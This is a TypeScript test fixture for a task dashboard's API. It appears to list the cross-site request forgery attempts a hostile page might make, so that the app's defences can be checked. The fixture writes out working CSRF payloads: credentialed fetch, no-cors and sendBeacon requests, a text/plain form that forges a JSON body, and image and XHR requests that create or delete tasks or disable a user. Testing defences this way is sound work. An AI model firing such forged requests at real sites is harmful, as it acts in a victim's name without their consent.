// What a hostile page tries with the password that the browser has cached for another user's dashboard.

export type Target = { origin: string; userId: string; taskId: string }

/** Each is the body of an asynchronous function; what it throws or is refused does not matter. */
export function listAttacks({ origin, userId, taskId }: Target): string[] {
  const api = `${origin}/ui/api`
  const body = JSON.stringify(JSON.stringify({ title: 'made by another site' }))
  const own = `'content-type': 'application/json', 'x-ts-csrf': '1'`
  const include = `credentials: 'include'`
  const form = (enctype: string) => `
    const form = document.createElement('form')
    form.method = 'post'
    form.enctype = '${enctype}'
    form.action = '${api}/tasks'
    form.target = 'frame'
    const field = document.createElement('input')
    field.name = '{"title":"made by a form","description":"'
    field.value = '"}'
    form.append(field)
    document.body.append(form)
    form.submit()`
  return [
    `await fetch('${api}/tasks', { method: 'POST', mode: 'no-cors', ${include}, body: ${body} })`,
    `await fetch('${api}/tasks', { method: 'POST', ${include}, headers: { ${own} }, body: ${body} })`,
    `await fetch('${api}/tasks/${taskId}', { method: 'DELETE', ${include}, headers: { 'x-ts-csrf': '1' } })`,
    `await fetch('${api}/tasks/${taskId}', { method: 'PATCH', ${include}, headers: { ${own} }, body: ${body} })`,
    // Takes no body, so no type gives it away: only what the browser says about the origin does.
    `await fetch('${api}/users/${userId}/disable', { method: 'POST', mode: 'no-cors', ${include} })`,
    `navigator.sendBeacon('${api}/users/${userId}/disable')`,
    `navigator.sendBeacon('${api}/tasks', new Blob([${body}], { type: 'application/json' }))`,
    form('text/plain'),
    form('application/x-www-form-urlencoded'),
    form('multipart/form-data'),
    `const image = new Image()
     image.src = '${api}/users/${userId}/disable'
     await new Promise((resume) => { image.onload = image.onerror = resume })`,
    `const request = new XMLHttpRequest()
     request.open('POST', '${api}/users/${userId}/disable')
     request.withCredentials = true
     await new Promise((resume) => { request.onloadend = resume; request.send() })`,
  ]
}

export const ATTACK_PAGE = `<!doctype html><title>A neighbor</title>
<iframe name="frame"></iframe>`
